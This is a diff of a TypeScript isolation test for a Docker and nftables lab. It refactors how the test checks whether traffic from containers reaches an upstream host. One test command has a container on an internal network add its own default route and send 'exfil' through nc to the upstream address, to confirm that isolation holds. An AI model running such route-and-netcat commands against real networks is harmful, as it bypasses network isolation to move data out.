@@ -12,7 +12,7 @@ import { dockerNftTable, ourNftTable, saveRules } from '../integration/agent-lab
 import { addressOf, docker, dockerBack, pingsFromUpstream, probeAll, readFromUpstream, rebootHost, RUN, SERVE, type Probe } from './exposure-closed';
 import { dockerdPid, ok, toolFile, waitFor, type FaultSuite } from './faults';
 import type { Lab } from './lab';
-import { peerSeenUpstream } from './upstream';
+import { peerSeenUpstream, receivedUpstream } from './upstream';
 
 const INSIDE = 'fd6e:7074:24::/48';
 const OUTSIDE = '2001:db8:800::/48';
@@ -110,12 +110,7 @@ export function nptScenarios(suite: FaultSuite, nft: boolean, stopDockerd: (lab:
     // an internal network's container routes itself out: nothing arrives upstream; the same from a normal one does
     const gw = (await docker(lab, ['network', 'inspect', 'nint', '-f', '{{range .IPAM.Config}}{{.Gateway}} {{end}}'])).split(' ').find((g) => g.includes(':'));
     t.truthy(gw, 'Docker gives the internal network an IPv6 gateway on the bridge');
-    const sent = async (name: string, port: string, cmd: string) => {
-      const listen = lab.upstream(['timeout', '3', 'busybox', 'nc', '-l', '-p', port]);
-      await new Promise((r) => setTimeout(r, 300));
-      await lab.docker(['exec', name, 'sh', '-c', cmd]);
-      return (await listen).stdout;
-    };
+    const sent = (name: string, port: string, cmd: string) => receivedUpstream(lab, port, () => lab.docker(['exec', name, 'sh', '-c', cmd]));
     const up6 = lab.record.addresses.upstream6;
     const [exfil, control] = await Promise.all([
       sent('n-int', '7779', `ip -6 route add default via ${gw} dev eth0; echo exfil | nc -w2 ${up6} 7779`),
